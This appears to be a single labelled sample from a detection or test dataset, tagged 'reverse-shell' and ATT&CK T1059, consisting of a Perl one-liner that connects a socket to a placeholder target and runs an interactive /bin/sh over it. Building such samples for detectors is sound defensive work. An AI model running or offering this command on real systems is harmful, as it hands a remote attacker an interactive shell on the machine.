# expect: reverse-shell | source: T1059
perl -MIO -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,look); open(STDIN,">&S"); exec("/bin/sh -i");'
